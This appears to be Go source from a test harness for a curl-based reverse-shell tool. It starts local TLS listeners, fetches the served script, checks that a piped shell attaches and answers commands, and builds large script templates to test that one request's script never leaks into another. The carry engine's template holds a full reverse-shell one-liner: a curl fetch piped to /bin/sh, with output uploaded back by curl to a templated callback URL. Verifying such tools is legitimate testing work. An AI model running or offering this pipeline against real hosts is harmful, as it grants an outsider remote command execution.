		res := mon.Proc{Path: "/usr/bin/curl", Args: []string{"-skv", "--pinnedpubkey", "sha256//" + pin, "-o", "/dev/null", "https://" + l.s.Addr + "/c"}, Env: env, Dir: base, Timeout: 15 * time.Second}.Run()
		s := string(res.Stderr)
		if len(s) > 1500 {
			s = "…" + s[len(s)-1500:]
		}
		wit["same_host_curl_-v_afterwards"] = fmt.Sprintf("exit status %d: %s", res.Status, s)
	}
	r.Count("hostcurl_runs", 1)
	desc := fmt.Sprintf("on a host whose curl reads %q from $%s/.curlrc", strings.Join(p.Lines, "; "), placements[hc.place])

	// the fetch
	id, sentURL := "", ""
	ok, childGone := waitLog(func(e bk.Event) bool {
		if e.Kind != "op" {
			return false
		}
		if m := sentRe.FindStringSubmatch(e.S); m != nil {
			id, sentURL = m[1], m[2]
			return true
		}
		return false
	})
	if !ok {
		diagnose()
		return execResult{key: "hostcurl-no-script:" + p.Name, slow: !childGone, what: fmt.Sprintf("%s, '%s' got no script from the server (no 'Sent script' notice; pipeline ended: %v)", desc, oneLiner, childGone), wit: wit}
	}
	r.Count("hostcurl_scripts_fetched", 1)
	c.addID("hostcurl", idx, id, fmt.Sprintf("hostcurl %d", idx))
	if sentURL != l.s.Addr {
		diagnose()
		return execResult{key: "c2-precedence:hostcurl", what: fmt.Sprintf("curl asked https://%s/c (Host: %s), the script sent calls back to %q", l.s.Addr, l.s.Addr, sentURL), wit: wit}
	}

	// attach
	in, out, ready := false, false, false
	otherID, rejected := "", ""
	ok, childGone = waitLog(func(e bk.Event) bool {
		if e.Kind != "op" {
			return false
		}
		if m := connRe.FindStringSubmatch(e.S); m != nil {
			if m[2] != id {
				otherID = m[2]
				return true
			}
			if m[1] == "Input" {
				in = true
			} else {
				out = true
			}
		}
		if strings.Contains(e.S, "Rejected") {
			rejected = e.S
			return true
		}
		if strings.Contains(e.S, "Shell is ready") {
			ready = true
		}
		return in && out && ready
	})
	if otherID != "" || rejected != "" {
		diagnose()
		return execResult{key: "script-attaches-with-other-id", what: fmt.Sprintf("%s, the script with ID %q produced an attachment with ID %q / refusal %q", desc, id, otherID, rejected), wit: wit}
	}
	if !ok {
		diagnose()
		return execResult{key: "hostcurl-does-not-attach:" + p.Name, slow: !childGone, what: fmt.Sprintf("%s, the script (ID %s, callback %s) was fetched and run but did not produce Input connected + Output connected + ready (input %v, output %v, ready %v; pipeline ended: %v; bound %s)", desc, id, sentURL, in, out, ready, childGone, bound), wit: wit}
	}
	r.Count("hostcurl_attaches", 1)

	// round trip
	tok := fmt.Sprintf("HC-%d-", idx)
	l.s.Ich <- "echo " + tok + "$((6*7))"
	var acc strings.Builder
	lastSeq := -1
	ok, childGone = waitLog(func(e bk.Event) bool {
		if e.Kind != "op" || !e.Plain || e.Seq <= lastSeq {
			return false
		}
		lastSeq = e.Seq
		acc.WriteString(e.S)
		return strings.Contains(acc.String(), tok+"42")
	})
	if !ok {
		diagnose()
		return execResult{key: "hostcurl-no-roundtrip:" + p.Name, slow: !childGone, what: fmt.Sprintf("%s, the attached shell did not answer 'echo %s$((6*7))' with %s42 within %s (shell output so far %q)", desc, tok, tok, bound, acc.String()), wit: wit}
	}
	r.Count("hostcurl_roundtrips", 1)
	r.Count("hostcurl_roundtrips:"+p.Name, 1)
	for _, d := range p.Dims {
		r.Count("hostcurl_dim_roundtrips:"+d, 1)
	}
	r.Count("hostcurl_roundtrips_curlrc_through:"+placements[hc.place], 1)
	r.Count("hostcurl_roundtrips_listener:"+hc.fam, 1)

	// leave
	l.s.Ich <- "exit"
	if _, gone := l.s.Log.Wait(from, bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "Shell is gone") }); gone {
		r.Count("hostcurl_shells_gone_after_exit", 1)
	} else {
		r.Count("hostcurl_shells_not_gone_after_exit", 1)
	}
	if killGroup(cmd, done, 10*time.Second) {
		r.Count("hostcurl_pipelines_exited_by_themselves", 1)
	} else {
		r.Count("hostcurl_pipelines_killed", 1)
	}
	finished = true
	r.Sample("hostcurl", map[string]any{"profile": p.Name, "curlrc": p.Lines, "curlrc_found_through": placements[hc.place], "command": oneLiner, "id": id, "operator_lines": opTail()})
	r.Distinct(fmt.Sprintf("hostcurl|%s|%s|%d", p.Name, hc.fam, hc.place))
	os.RemoveAll(base)
	return execResult{}
}

// hostFetch: for a profile with which this machine's curl can fetch but not do
// all of the script's transfers (HTTP/1.0 cannot upload from a pipe): /c is
// fetched by that curl and the script it printed is judged like any other.
func (c *ctx) hostFetch(idx int, hc hostCase) {
	r := c.r
	p := hc.prof
	addr := "127.0.0.1:0"
	if hc.fam == "v6" {
		addr = "[::1]:0"
	}
	l, err := startLsn(hc.fam, addr, hk.Config{})
	if err != nil {
		r.Inconclusive(fmt.Sprintf("hostcurl %d: server did not start: %v", idx, err))
		return
	}
	defer l.s.Stop()
	conn, err := hk.Dial(l.s.Addr, "")
	if err != nil || len(conn.Chain) == 0 {
		r.Inconclusive(fmt.Sprintf("hostcurl %d: cannot see the server's certificate: %v", idx, err))
		return
	}
	conn.Close()
	pin := hk.Pin(conn.Chain[0])
	base := filepath.Join(r.Work, fmt.Sprintf("hostcurl-%d-%d", idx, time.Now().UnixNano()))
	env, err := makeHost(base, p, hc.place)
	if err != nil {
		r.Inconclusive("hostcurl: " + err.Error())
		return
	}
	defer os.RemoveAll(base)
	from := l.s.Log.Len()
	args := []string{"-sk", "--pinnedpubkey", "sha256//" + pin, "https://" + l.s.Addr + "/c"}
	res := mon.Proc{Path: "/usr/bin/curl", Args: args, Env: env, Dir: base, Timeout: 2 * hk.Bound}.Run()
	wit := map[string]any{"profile": p.Name, "curlrc": p.Lines, "curlrc_found_through": placements[hc.place], "command": "curl " + strings.Join(args, " "), "exit_status": res.Status, "stdout": trunc(string(res.Stdout), 2000), "listener": l.s.Addr}
	if res.TimedOut {
		r.Inconclusive(fmt.Sprintf("hostcurl %d: curl fetching /c did not finish within %s", idx, 2*hk.Bound))
		return
	}
	r.Count("hostcurl_fetch_only_runs", 1)
	if res.Status != 0 || len(res.Stdout) == 0 {
		var ops []string
		for _, e := range l.s.OpLines(from, -1) {
			ops = append(ops, e.S)
		}
		wit["operator_lines"] = ops
		c.violate("hostcurl", idx, "hostcurl-no-script:"+p.Name, fmt.Sprintf("on a host whose curl reads %q from $%s/.curlrc, curl fetching /c ended with status %d and %d bytes", strings.Join(p.Lines, "; "), placements[hc.place], res.Status, len(res.Stdout)), wit)
		return
	}
	sc := c.checkScript("hostcurl", idx, res.Stdout, conn, fmt.Sprintf("hostcurl %d", idx), wit)
	if sc == nil {
		return
	}
	if sc.Auth[0] != l.s.Addr || sc.Auth[1] != l.s.Addr {
		c.violate("hostcurl", idx, "c2-precedence:hostcurl", fmt.Sprintf("curl asked https://%s/c, the script calls back to %q / %q", l.s.Addr, sc.Auth[0], sc.Auth[1]), wit)
		return
	}
	r.Count("hostcurl_fetches:"+p.Name, 1)
	for _, d := range p.Dims {
		r.Count("hostcurl_dim_fetches:"+d, 1)
	}
	r.Distinct(fmt.Sprintf("hostcurl-fetch|%s|%s|%d", p.Name, hc.fam, hc.place))
}

// hostReps is how many host runs every usable profile gets.
func hostReps(r *mon.Run) int { return r.N(2, 8) }

// hostCases is the deterministic case list: every profile hostReps times;
// repetition j of profile k finds its .curlrc through HOME or CURL_HOME in
// turn and talks to a listener on 127.0.0.1 or [::1] (every third).
func hostCases(r *mon.Run, profs []*curlProfile) []hostCase {
	var out []hostCase
	for j := 0; j < hostReps(r); j++ {
		for k, p := range profs {
			hc := hostCase{prof: p, fam: "v4", place: (j + k) % 2}
			if (j*len(profs)+k)%3 == 2 {
				hc.fam = "v6"
			}
			out = append(out, hc)
		}
	}
	return out
}

func (c *ctx) hostcurlEngine() {
	r := c.r
	if !r.WantEngine("hostcurl") {
		return
	}
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		r.Inconclusive("hostcurl: no /usr/bin/curl on this host")
		return
	}
	ps, err := startPlain()
	if err != nil {
		r.Inconclusive("hostcurl: the harness's plain listener did not start: " + err.Error())
		return
	}
	profs := hostProfiles(r, r.N(6, 24))
	mon.Parallel(len(profs), 4, func(k int) {
		probeProfile(r, ps, k, profs[k])
		r.Count("hostcurl_profiles_probed", 1)
	})
	ps.stop()
	var notExplored []string
	usable := map[string]string{}
	for _, p := range profs {
		switch p.Level {
		case 2:
			r.Count("hostcurl_profiles_usable", 1)
			r.Count("hostcurl_profile_usable:"+p.Name, 1)
			for _, d := range p.Dims {
				r.Count("hostcurl_dim_usable:"+d, 1)
			}
			usable[p.Name] = "one-liner piped to /bin/sh"
		case 1:
			r.Count("hostcurl_profiles_fetch_only", 1)
			r.Count("hostcurl_profile_fetch_only:"+p.Name, 1)
			usable[p.Name] = "fetch of /c only (" + p.Why + ")"
		default:
			r.Count("hostcurl_profiles_not_explored", 1)
			notExplored = append(notExplored, p.Name+": "+p.Why)
		}
	}
	sort.Strings(notExplored)
	r.Extra("hostcurl_profiles", profs)
	r.Extra("hostcurl_profiles_explored", usable)
	r.Extra("hostcurl_profiles_not_explored", notExplored)
	if len(notExplored) > 0 {
		r.Assumptions = append(r.Assumptions, fmt.Sprintf("hostcurl: %d curl profile(s) could not be used by this machine's curl against the harness's own plain TLS listener and were NOT explored: %s", len(notExplored), strings.Join(notExplored, " | ")))
	}
	for _, p := range profs {
		if p.Level == 1 {
			r.Assumptions = append(r.Assumptions, fmt.Sprintf("hostcurl: with profile %s this machine's curl can fetch but not do all of the script's transfers against the harness's own plain listener (%s): only the fetch of /c was explored, the script was not run", p.Name, p.Why))
		}
	}

	cases := hostCases(r, profs)
	var retry []int
	var rmu sync.Mutex
	mon.Parallel(len(cases), 4, func(i int) {
		hc := cases[i]
		if !r.Want("hostcurl", i) || hc.prof.Level == 0 {
			return
		}
		r.Eval(1)
		if hc.prof.Level == 1 {
			c.hostFetch(i, hc)
			return
		}
		res := c.hostRun(i, hc, hk.Bound)
		if res.key == "" {
			return
		}
		if res.slow {
			rmu.Lock()
			retry = append(retry, i)
			rmu.Unlock()
			return
		}
		c.violate("hostcurl", i, res.key, res.what, res.wit)
	})
	// a fired progress bound is re-run alone with the bound doubled
	sort.Ints(retry)
	for _, i := range retry {
		res := c.hostRun(i, cases[i], 2*hk.Bound)
		if res.key == "" {
			r.Count("hostcurl_slow_then_fine", 1)
			r.Inconclusive(fmt.Sprintf("hostcurl %d: progress bound fired once, re-run alone was fine", i))
			continue
		}
		c.violate("hostcurl", i, res.key, res.what, res.wit)
	}
}

func hostcurlFloors(r *mon.Run) {
	r.Floor("hostcurl_profiles_probed", int64(len(baseProfiles())+r.N(6, 24)))
	reps := int64(hostReps(r))
	for _, p := range hostProfiles(r, r.N(6, 24)) {
		if r.Counter("hostcurl_skipped_key_is_not_ecdsa:"+p.Name) > 0 {
			continue // the served key is not an ECDSA key: suites for ECDSA keys were not explored
		}
		if r.Counter("hostcurl_profile_usable:"+p.Name) > 0 {
			r.Floor("hostcurl_roundtrips:"+p.Name, reps)
		}
		if r.Counter("hostcurl_profile_fetch_only:"+p.Name) > 0 {
			r.Floor("hostcurl_fetches:"+p.Name, reps)
		}
	}
	for _, d := range []string{"tls-curve", "tls-cipher", "http", "conn"} {
		if r.Counter("hostcurl_dim_usable:"+d) > 0 {
			r.Floor("hostcurl_dim_roundtrips:"+d, reps)
		}
	}
	// the control and a limit on the TLS version are what the dimension is about:
	// a machine whose curl cannot do these has not explored it
	r.Floor("hostcurl_roundtrips:plain", reps)
	r.Floor("hostcurl_dim_roundtrips:tls-version", reps)
	r.Floor("hostcurl_roundtrips_curlrc_through:HOME", reps)
	r.Floor("hostcurl_roundtrips_curlrc_through:CURL_HOME", reps)
	r.Floor("hostcurl_roundtrips_listener:v4", reps)
	r.Floor("hostcurl_roundtrips_listener:v6", reps)
	r.Floor("hostcurl_roundtrips", int64(r.N(12, 48)))
}

// ---- tlsclient engine --------------------------------------------------------------

type goProfile struct {
	Name  string
	cfg   tls.Config // restrictions only
	ecdsa bool
	ok    func(cs tls.ConnectionState) bool
	Why   string // "" = usable against the plain listener
}

func goProfiles() []*goProfile {
	var out []*goProfile
	out = append(out,
		&goProfile{Name: "go-default", ok: func(cs tls.ConnectionState) bool { return true }},
		&goProfile{Name: "go-max-tls1.2", cfg: tls.Config{MaxVersion: tls.VersionTLS12}, ok: func(cs tls.ConnectionState) bool { return cs.Version == tls.VersionTLS12 }},
		&goProfile{Name: "go-min-tls1.3", cfg: tls.Config{MinVersion: tls.VersionTLS13}, ok: func(cs tls.ConnectionState) bool { return cs.Version == tls.VersionTLS13 }},
	)
	for _, id := range []uint16{tls.TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256, tls.TLS_ECDHE_ECDSA_WITH_AES_256_GCM_SHA384, tls.TLS_ECDHE_ECDSA_WITH_CHACHA20_POLY1305_SHA256} {
		id := id
		out = append(out, &goProfile{Name: "go-tls1.2-" + tls.CipherSuiteName(id), ecdsa: true,
			cfg: tls.Config{MinVersion: tls.VersionTLS12, MaxVersion: tls.VersionTLS12, CipherSuites: []uint16{id}},
			ok:  func(cs tls.ConnectionState) bool { return cs.Version == tls.VersionTLS12 && cs.CipherSuite == id }})
	}
	for _, cv := range []tls.CurveID{tls.CurveP256, tls.CurveP384, tls.CurveP521, tls.X25519} {
		out = append(out,
			&goProfile{Name: fmt.Sprintf("go-curve-%v", cv), cfg: tls.Config{CurvePreferences: []tls.CurveID{cv}}, ok: func(cs tls.ConnectionState) bool { return true }},
			&goProfile{Name: fmt.Sprintf("go-max-tls1.2-curve-%v", cv), cfg: tls.Config{MaxVersion: tls.VersionTLS12, CurvePreferences: []tls.CurveID{cv}}, ok: func(cs tls.ConnectionState) bool { return cs.Version == tls.VersionTLS12 }},
		)
	}
	return out
}

func isNIST(name string) bool {
	return strings.Contains(name, "P256") || strings.Contains(name, "P384") || strings.Contains(name, "P521")
}

// dialWith connects like hk.Dial with the profile's restrictions.  stage says
// how far it got: "tcp" or "tls".
func dialWith(addr, sni string, p *goProfile) (c *hk.Conn, stage string, err error) {
	d := &net.Dialer{Timeout: hk.Bound}
	raw, err := d.Dial("tcp", addr)
	if err != nil {
		return nil, "tcp", err
	}
	c = &hk.Conn{}
	cfg := &tls.Config{
		InsecureSkipVerify: true,
		ServerName:         sni,
		MinVersion:         p.cfg.MinVersion,
		MaxVersion:         p.cfg.MaxVersion,
		CipherSuites:       p.cfg.CipherSuites,
		CurvePreferences:   p.cfg.CurvePreferences,
		VerifyConnection: func(cs tls.ConnectionState) error {
			c.Chain = cs.PeerCertificates
			return nil
		},
	}
	tc := tls.Client(raw, cfg)
	tc.SetDeadline(time.Now().Add(hk.Bound))
	if err := tc.Handshake(); err != nil {
		raw.Close()
		return nil, "tls", err
	}
	tc.SetDeadline(time.Time{})
	c.Conn = tc
	c.R = bufio.NewReader(tc)
	return c, "", nil
}

func isTimeout(err error) bool {
	ne, ok := err.(net.Error)
	return ok && ne.Timeout()
}

func (c *ctx) tlsclientEngine() {
	r := c.r
	if !r.WantEngine("tlsclient") {
		return
	}
	profs := goProfiles()
	// which restrictions Go's own client can live with at all, against the plain listener
	ps, err := startPlain()
	if err != nil {
		r.Inconclusive("tlsclient: the harness's plain listener did not start: " + err.Error())
		return
	}
	var notExplored []string
	for k, p := range profs {
		req := fmt.Sprintf("GET /g/%d HTTP/1.1\r\nHost: plain\r\nConnection: close\r\n\r\n", k)
		conn, _, err := dialWith(ps.addr, "", p)
		if err != nil {
			p.Why = "handshake with the plain listener: " + err.Error()
		} else {
			conn.SetDeadline(time.Now().Add(hk.Bound))
			conn.Write([]byte(req))
			res, err := hk.ReadResponse(conn.R, []byte(req))
			if err != nil || res == nil || res.Status != 200 {
				p.Why = fmt.Sprintf("request to the plain listener: %v", err)
			} else if !p.ok(conn.ConnectionState()) {
				p.Why = fmt.Sprintf("restriction not seen in effect: version %#04x suite %s", conn.ConnectionState().Version, tls.CipherSuiteName(conn.ConnectionState().CipherSuite))
			}
			conn.Close()
		}
		if p.Why != "" {
			r.Count("tlsclient_profiles_not_explored", 1)
			notExplored = append(notExplored, p.Name+": "+p.Why)
		} else {
			r.Count("tlsclient_profile_usable:"+p.Name, 1)
		}
	}
	ps.stop()
	r.Extra("tlsclient_profiles_not_explored", notExplored)
	if len(notExplored) > 0 {
		r.Assumptions = append(r.Assumptions, "tlsclient: Go client restrictions that do not work against the harness's own plain TLS listener were NOT explored: "+strings.Join(notExplored, " | "))
	}

	var ls []*lsn
	ecdsaKey := map[*lsn]bool{}
	for _, d := range [][2]string{{"v4", "127.0.0.1:0"}, {"v6", "[::1]:0"}} {
		l, err := startLsn(d[0], d[1], hk.Config{})
		if err != nil {
			r.Inconclusive(fmt.Sprintf("tlsclient: listener %s did not start: %v", d[1], err))
			continue
		}
		defer l.s.Stop()
		// the kind of key served, as an unrestricted client sees it: the
		// ECDHE-ECDSA suites only fit an ECDSA key
		if conn, err := hk.Dial(l.s.Addr, ""); err == nil {
			if len(conn.Chain) > 0 && conn.Chain[0].PublicKeyAlgorithm == x509.ECDSA {
				ecdsaKey[l] = true
			}
			conn.Close()
		} else {
			r.Inconclusive(fmt.Sprintf("tlsclient: cannot see the certificate of listener %s: %v", d[1], err))
			l.s.Stop()
			continue
		}
		ls = append(ls, l)
	}
	if len(ls) == 0 {
		return
	}
	reps := r.N(2, 10)
	n := len(profs) * len(ls) * 2 * reps
	mon.Parallel(n, 4, func(i int) {
		if !r.Want("tlsclient", i) {
			return
		}
		p := profs[i%len(profs)]
		j := i / len(profs)
		l := ls[j%len(ls)]
		j /= len(ls)
		sniOnly := j%2 == 1
		if p.Why != "" {
			return
		}
		if p.ecdsa && !ecdsaKey[l] {
			r.Count("tlsclient_skipped_key_is_not_ecdsa", 1)
			return
		}
		var raw, want, sni string
		if sniOnly {
			sni, want, raw = "localhost", "localhost:"+l.port, "GET /c HTTP/1.0\r\n\r\n"
		} else {
			want = fmt.Sprintf("tc%d.example:8443", i)
			raw = fmt.Sprintf("GET /c HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", want)
		}
		wit := map[string]any{"client": p.Name, "request": raw, "sni": sni, "listener": l.s.Addr, "same_client_against_plain_listener": "fine"}
		from := l.s.Log.Len()
		conn, stage, err := dialWith(l.s.Addr, sni, p)
		if err != nil {
			if stage == "tcp" || isTimeout(err) {
				r.Inconclusive(fmt.Sprintf("tlsclient %d: %s: %v", i, stage, err))
				return
			}
			r.Eval(1)
			if conn, _, err2 := dialWith(l.s.Addr, sni, profs[0]); err2 == nil {
				conn.Close()
				wit["unrestricted_client_same_moment"] = "handshake fine"
			} else {
				wit["unrestricted_client_same_moment"] = err2.Error()
			}
			wit["error"] = err.Error()
			c.violate("tlsclient", i, "tls-client-refused:"+p.Name, fmt.Sprintf("a client restricted to %s, which the harness's plain TLS listener serves, is refused by the server's listener: %v", p.Name, err), wit)
			return
		}
		defer conn.Close()
		r.Eval(1)
		cs := conn.ConnectionState()
		if !p.ok(cs) {
			r.Inconclusive(fmt.Sprintf("tlsclient %d: restriction %s not in effect on this connection (version %#04x)", i, p.Name, cs.Version))
			return
		}
		conn.SetDeadline(time.Now().Add(hk.Bound))
		if _, err := conn.Write([]byte(raw)); err != nil {
			r.Inconclusive(fmt.Sprintf("tlsclient %d: write: %v", i, err))
			return
		}
		res, err := hk.ReadResponse(conn.R, []byte(raw))
		if err != nil || res == nil {
			r.Inconclusive(fmt.Sprintf("tlsclient %d: read: %v", i, err))
			return
		}
		wit["status"], wit["body"] = res.Status, string(res.Body)
		if res.Status != 200 {
			c.violate("tlsclient", i, "c2-precedence:tlsclient", fmt.Sprintf("status %d instead of a script for a client restricted to %s", res.Status, p.Name), wit)
			return
		}
		sc := c.checkScript("tlsclient", i, res.Body, conn, fmt.Sprintf("tlsclient %d", i), wit)
		if sc == nil {
			return
		}
		if sc.Auth[0] != want || sc.Auth[1] != want {
			c.violate("tlsclient", i, "c2-precedence:tlsclient", fmt.Sprintf("script calls back to %q / %q, expected %q (client %s)", sc.Auth[0], sc.Auth[1], want, p.Name), wit)
			return
		}
		c.awaitNotice("tlsclient", i, l, from, sc.ID[0], want, wit)
		r.Count("tlsclient_scripts", 1)
		r.Count("tlsclient_scripts:"+p.Name, 1)
		if cs.Version == tls.VersionTLS12 {
			r.Count("tlsclient_scripts_over_tls1.2", 1)
		}
		if isNIST(p.Name) {
			r.Count("tlsclient_scripts_single_nist_curve", 1)
		}
		r.Count("tlsclient_scripts_listener:"+l.name, 1)
		r.Distinct(fmt.Sprintf("tlsclient|%s|%s|%v", p.Name, l.name, sniOnly))
	})
}

func tlsclientFloors(r *mon.Run) {
	reps := int64(r.N(2, 10))
	for _, p := range goProfiles() {
		if p.ecdsa && r.Counter("tlsclient_skipped_key_is_not_ecdsa") > 0 {
			continue // the served key is not an ECDSA key: suites for ECDSA keys were not explored
		}
		if r.Counter("tlsclient_profile_usable:"+p.Name) > 0 {
			r.Floor("tlsclient_scripts:"+p.Name, 2*reps)
		}
	}
	r.Floor("tlsclient_scripts:go-default", 2*reps)
	r.Floor("tlsclient_scripts_over_tls1.2", 2*reps)
	r.Floor("tlsclient_scripts_single_nist_curve", 2*reps)
	r.Floor("tlsclient_scripts_listener:v4", reps)
	r.Floor("tlsclient_scripts_listener:v6", reps)
}

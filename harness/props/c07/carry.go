package c07

// Carry engine: nothing of one request's script may reach another request.
//
// "For every request to /c the returned script …" also holds for the request
// that comes after one that went wrong.  The engine serves big custom
// templates (1 KiB … 8 MiB, every line carrying the request's ID and callback
// address, so that every rendering is recognisable) and mixes well-behaved
// clients with clients that go away in the middle of their script (reset or
// close after reading nothing, one byte or a part of it; small receive
// buffers, so that the server is still writing when they leave) and with
// templates that fail half-way through execution.  Every completely received
// script is compared byte for byte with the reference rendering for ITS
// request (own substitution of the three fields into the template text, no
// template library): same first bytes, one ID, exact length.
//
// Half of the sequences run in a child process with GOMAXPROCS(1), the other
// half in a child with all processors (three servers at a time).

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"text/template"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

// carryBound bounds every wait on a response (8 MiB scripts, one processor,
// race detector, other checks running beside); its expiry is inconclusive.
const carryBound = 90 * time.Second

var carryDebug = os.Getenv("CARRY_DEBUG") != ""

type carryClass struct {
	name  string
	size  int
	steps [2]int // quick, thorough: disturbances per sequence
}

var carryClasses = []carryClass{
	{"1KiB", 1 << 10, [2]int{24, 60}},
	{"6KiB", 6 << 10, [2]int{24, 60}},
	{"24KiB", 24 << 10, [2]int{24, 60}},
	{"96KiB", 96 << 10, [2]int{24, 60}},
	{"384KiB", 384 << 10, [2]int{16, 50}},
	{"1.5MiB", 1536 << 10, [2]int{8, 30}},
	{"8MiB", 8 << 20, [2]int{3, 12}},
}

var carryAbortKinds = []string{"rst-blind", "rst-1byte", "rst-part", "fin-1byte", "fin-part", "rawclose-part"}

// the first disturbances of a sequential sequence are fixed, the rest drawn
var carryTour = []string{"rst-part", "fin-part", "exec-fail", "rst-1byte", "rewrite", "rawclose-part", "rst-blind", "fin-1byte", "rst-part", "exec-fail", "rst-part", "rewrite"}

var carryDraw = []string{"rst-part", "rst-part", "rst-part", "rst-1byte", "fin-part", "fin-part", "fin-1byte", "rawclose-part", "rawclose-part", "rst-blind", "exec-fail", "exec-fail", "rewrite", "none"}

// actions that parse and fail when executed, after output has been produced
var carryFailActions = []string{
	`{{.Nope}}`,
	`{{index .ID 100000}}`,
	`{{template "nosuch" .}}`,
	`{{.ID.Foo}}`,
	`{{slice .URL 9 2}}`,
	`{{len 3}}`,
	`{{call .ID}}`,
	`{{printf "%d" (index .URL 100000)}}`,
}

func carrySeqCount(r *mon.Run) int { return r.N(4*len(carryClasses), 12*len(carryClasses)) }

// carryShape: sequence i runs with one processor if i is even, with concurrent
// clients if (i/2) is odd, and serves templates of size class (i/4)%7.
func carryShape(i int) (procs1, concurrent bool, class carryClass) {
	return i%2 == 0, (i/2)%2 == 1, carryClasses[(i/4)%len(carryClasses)]
}

const carryCurl = `curl -Nsk --pinnedpubkey "sha256//{{.PubkeyFP}}" https://{{.URL}}/i/{{.ID}} </dev/null 2>&0 |` + "\n/bin/sh 2>&1 |\n" +
	`curl -Nsk --pinnedpubkey "sha256//{{.PubkeyFP}}" https://{{.URL}}/o/{{.ID}} -T- >/dev/null 2>&1` + "\n"

// carryTemplate: a shell script of about size bytes whose every line names the
// request; the two curl commands stand after the first lines (0), in the
// middle (1) or at the end (2).
func carryTemplate(nonce, size, lineLen, curlPos int) string {
	var sb strings.Builder
	sb.Grow(size + 2048)
	fmt.Fprintf(&sb, "#!/bin/sh\n# carry template t%d id={{.ID}} url={{.URL}}\n", nonce)
	rest := size - sb.Len() - len(carryCurl)
	nlines := 0
	if rest > 0 {
		nlines = rest / lineLen
	}
	at := []int{0, nlines / 2, nlines}[curlPos]
	for ln := 0; ; ln++ {
		if ln == at {
			sb.WriteString(carryCurl)
		}
		if ln >= nlines {
			break
		}
		start := sb.Len()
		fmt.Fprintf(&sb, "# t%d l%07d id={{.ID}} url={{.URL}}", nonce, ln)
		if n := (lineLen - 8 - (sb.Len() - start)) / 7; n > 0 {
			sb.WriteString(strings.Repeat(" helper", n))
		}
		sb.WriteByte('\n')
	}
	return sb.String()
}

// carryFailing: about size bytes of output, then an action that fails, then more text.
func carryFailing(nonce, size, lineLen int, action string) string {
	var sb strings.Builder
	sb.Grow(size + 2048)
	fmt.Fprintf(&sb, "#!/bin/sh\n# PARTIAL carry template t%d id={{.ID}} url={{.URL}}\n", nonce)
	for ln := 0; sb.Len() < size; ln++ {
		start := sb.Len()
		fmt.Fprintf(&sb, "# PARTIAL t%d l%07d id={{.ID}} url={{.URL}}", nonce, ln)
		if n := (lineLen - 8 - (sb.Len() - start)) / 7; n > 0 {
			sb.WriteString(strings.Repeat(" helper", n))
		}
		sb.WriteByte('\n')
	}
	sb.WriteString(carryCurl)
	sb.WriteString(action)
	fmt.Fprintf(&sb, "\n# PARTIAL t%d after the failing action id={{.ID}}\n", nonce)
	return sb.String()
}

// carrySeg is a piece of template text or (lit == "") one of the three fields.
type carrySeg struct {
	lit   string
	field byte // I U P
}

// carrySplit cuts a template text that has no other action than the three
// fields into its pieces.
func carrySplit(text string) []carrySeg {
	var segs []carrySeg
	for {
		i := strings.Index(text, "{{")
		if i < 0 {
			if text != "" {
				segs = append(segs, carrySeg{lit: text})
			}
			return segs
		}
		if i > 0 {
			segs = append(segs, carrySeg{lit: text[:i]})
		}
		switch {
		case strings.HasPrefix(text[i:], "{{.ID}}"):
			segs, text = append(segs, carrySeg{field: 'I'}), text[i+len("{{.ID}}"):]
		case strings.HasPrefix(text[i:], "{{.URL}}"):
			segs, text = append(segs, carrySeg{field: 'U'}), text[i+len("{{.URL}}"):]
		case strings.HasPrefix(text[i:], "{{.PubkeyFP}}"):
			segs, text = append(segs, carrySeg{field: 'P'}), text[i+len("{{.PubkeyFP}}"):]
		default:
			panic("carry: template text with an action the reference does not know: " + carryShow([]byte(text[i:]), 40))
		}
	}
}

// carryEqual reports whether body is the reference rendering: the pieces of
// the template text with the three fields substituted, and nothing else.
func carryEqual(body []byte, segs []carrySeg, id, url, pin string) bool {
	for _, sg := range segs {
		p := sg.lit
		switch sg.field {
		case 'I':
			p = id
		case 'U':
			p = url
		case 'P':
			p = pin
		}
		if len(body) < len(p) || string(body[:len(p)]) != p {
			return false
		}
		body = body[len(p):]
	}
	return len(body) == 0
}

// carryLen is the length of the reference rendering.
func carryLen(segs []carrySeg, id, url, pin string) int {
	n := 0
	for _, sg := range segs {
		switch sg.field {
		case 'I':
			n += len(id)
		case 'U':
			n += len(url)
		case 'P':
			n += len(pin)
		default:
			n += len(sg.lit)
		}
	}
	return n
}

// carryFirstID: what stands after the first "/i/" of the body that is not a
// part of the certificate's fingerprint (base64 has '/' and 'i': about one
// certificate in a hundred has "/i/" in its pin, and the pin comes first).
func carryFirstID(body []byte, pin string) string {
	off := 0
	for {
		i := bytes.Index(body[off:], []byte("/i/"))
		if i < 0 {
			return ""
		}
		i += off
		if carryInPin(body, i, pin) {
			off = i + 1
			continue
		}
		b := body[i+3:]
		n := 0
		for n < len(b) && n < 200 && b[n] != ' ' && b[n] != '\n' && b[n] != '\t' && b[n] != '/' {
			n++
		}
		return string(b[:n])
	}
}

// carryInPin: the three bytes at i belong to an occurrence of the pin.
func carryInPin(body []byte, i int, pin string) bool {
	for k := 0; k+3 <= len(pin); k++ {
		if s := i - k; s >= 0 && s+len(pin) <= len(body) && pin[k:k+3] == string(body[i:i+3]) && string(body[s:s+len(pin)]) == pin {
			return true
		}
	}
	return false
}

// carryRender is the reference rendering: the three fields substituted into
// the template text (which has no other action).
func carryRender(text, id, url, pin string) []byte {
	return []byte(strings.NewReplacer("{{.ID}}", id, "{{.URL}}", url, "{{.PubkeyFP}}", pin).Replace(text))
}

var (
	carryHeadIDRe = regexp.MustCompile(`id=([0-9A-Za-z._~-]+) url=(\S+)[ \n]`)
	carryAnyIDRe  = regexp.MustCompile(`(?:/[io]/|id=)([0-9A-Za-z._~-]+)`)
	carryURLRe    = regexp.MustCompile(`url=(\S+)`)
)

// carryParams has the fields of the template parameters (for the sanity check
// of the failing actions only).
type carryParams struct{ PubkeyFP, URL, ID string }

// carryFailActionsChecked returns the failing actions that really parse and
// fail at execution with this toolchain's text/template.
func carryFailActionsChecked(r *mon.Run) []string {
	var out []string
